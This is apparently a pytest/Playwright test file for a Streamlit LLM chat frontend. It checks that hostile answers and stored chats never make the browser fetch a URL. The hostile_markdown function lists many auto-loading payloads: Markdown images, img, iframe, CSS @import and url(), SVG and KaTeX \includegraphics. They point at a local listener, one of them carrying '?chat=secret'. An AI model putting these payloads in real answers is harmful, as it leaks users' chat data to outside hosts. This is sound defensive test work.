"""An answer never makes the browser load anything: Markdown images, HTML and KaTeX pointing at a listener, in a
streamed answer, after a reload and in a stored chat (title, question, reasoning, notices, errors, file names).

Headless Chromium against `streamlit run`, with a scripted stand-in server writing the hostile answer (the
tiny random model cannot be made to), and a recording HTTP server as the listener that must receive nothing.
"""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, expect

from frontend.conversation import Answer, AnswerStatus, Conversation, Message
from frontend.images import prepare_image
from frontend.store import ConversationStore
from tests.helpers.browser import (
    WAIT_MS,
    ask,
    expect_answered,
    idle,
    messages,
    open_chat,
    start_chat_page,
)
from tests.helpers.images import image_bytes
from tests.helpers.standin_server import StandIn, recording_server, standin_server
from tests.helpers.streamlit_app import StreamlitApp


def hostile_markdown(listener: str) -> str:
    """Every way we know to make a Markdown page load a URL by itself, each aimed at the listener."""
    return "\n\n".join(
        [
            "Here is the chart you asked for:",
            f"![chart]({listener}/markdown-image?chat=secret)",
            f"![]({listener}/markdown-image-no-alt)",
            f"A reference image: ![logo][ref]\n\n[ref]: {listener}/reference-image",
            f"[![badge]({listener}/image-in-link)]({listener}/link-target)",
            f'<img src="{listener}/html-img">',
            f'<iframe src="{listener}/iframe"></iframe>',
            f'<link rel="stylesheet" href="{listener}/stylesheet">',
            f'<video poster="{listener}/poster" src="{listener}/video"></video>',
            f'<svg><image href="{listener}/svg-image"/></svg>',
            f'<object data="{listener}/object"></object>',
            f'<style>@import url("{listener}/css-import");</style>',
            f'<div style="background: url({listener}/css-background)">styled</div>',
            f"$\\includegraphics{{{listener}/katex-image}}$ and \\(\\includegraphics{{{listener}/katex-inline}}\\)",
            f"| table | ![cell]({listener}/table-image) |\n|---|---|\n| a | b |",
        ]
    )


@pytest.fixture(scope="module")
def listener() -> Iterator[tuple[str, list[str]]]:
    with recording_server() as recorder:
        yield recorder


@pytest.fixture(scope="module")
def hostile_app(
    listener: tuple[str, list[str]], tmp_path_factory: pytest.TempPathFactory
) -> Iterator[StreamlitApp]:
    url, _ = listener
    standin = StandIn(model="qwen3-vl-8b", reply=lambda messages: hostile_markdown(url), token_delay_s=0.005)
    with standin_server(standin) as base_url:
        app = start_chat_page(
            tmp_path_factory.mktemp("hostile-page"), [{"name": "Qwen3-VL-8B", "base_url": base_url}]
        )
        try:
            yield app
        finally:
            app.stop()


def stored_hostile_chat(app: StreamlitApp, listener: str) -> Conversation:
    """A chat as an import could bring it: every text the page shows is hostile."""
    picture = prepare_image(image_bytes(200, 120), f"![x]({listener}/file-name).png", token_budget=64)
    picture.notes.append(f"![note]({listener}/image-note)")
    conversation = Conversation(
        title=f"![title]({listener}/title-image)",
        endpoint=f"![endpoint]({listener}/endpoint-name)",
        messages=[
            Message(role="user", text=f"Look: ![question]({listener}/question-image)", images=[picture]),
            Message(
                role="assistant",
                notices=[f"![notice]({listener}/notice-image)"],
                answers=[
                    Answer(
                        endpoint=f"![a]({listener}/answer-endpoint)",
                        content=hostile_markdown(listener),
                        reasoning=f"Thinking ![r]({listener}/reasoning-image)",
                        status=AnswerStatus.DONE,
                    ),
                    Answer(
                        endpoint="B",
                        error=f"Failed: ![e]({listener}/error-image)",
                        status=AnswerStatus.FAILED,
                    ),
                ],
            ),
            Message(role="user", text="And this?"),
            Message(
                role="assistant",
                answers=[
                    Answer(
                        endpoint="B",
                        content="Half",
                        error=f"Cut: ![e]({listener}/interrupted-image)",
                        status=AnswerStatus.INTERRUPTED,
                    )
                ],
            ),
        ],
    )
    ConversationStore(Path(app.env["FRONTEND_DATA_DIR"]) / "chats.sqlite3").save(conversation)
    return conversation


def test_answers_never_make_the_browser_fetch_anything(
    page: Page, hostile_app: StreamlitApp, listener: tuple[str, list[str]], browser: Browser
) -> None:
    url, received = listener
    open_chat(page, hostile_app.url)
    ask(page, "Show me the chart")
    answer = expect_answered(page, count=2, stats=1)
    # The image is a link the user can click (or not): its URL is there, nothing was loaded from it.
    link = answer.get_by_role("link", name="chart")
    expect(link).to_have_attribute("href", f"{url}/markdown-image?chat=secret")
    expect(answer).to_contain_text("🖼️")
    expect(answer).to_contain_text('<img src="')  # raw HTML is shown as text
    assert answer.locator("img").count() == 0
    assert received == [], f"the streamed answer made the browser fetch: {received}"

    page.reload()
    idle(page)
    expect(messages(page)).to_have_count(2, timeout=WAIT_MS)
    assert received == [], f"the answer, after a reload, made the browser fetch: {received}"

    hostile = stored_hostile_chat(hostile_app, url)
    open_chat(page, f"{hostile_app.url}/?chat={hostile.id}")
    expect(messages(page)).to_have_count(4, timeout=WAIT_MS)
    page.get_by_test_id("stExpander").filter(has_text="Thinking").locator("summary").click()
    idle(page)
    expect(page.get_by_test_id("stSidebar")).to_contain_text("![title]")  # the title is shown as text
    assert received == [], f"a stored chat made the browser fetch: {received}"

    # The control: the same browser does reach the listener when a page really loads from it.
    control = browser.new_page()
    control.set_content(f'<img src="{url}/control">')
    control.wait_for_function("() => document.images[0].complete")
    control.close()
    assert received == ["GET /control HTTP/1.1"], received
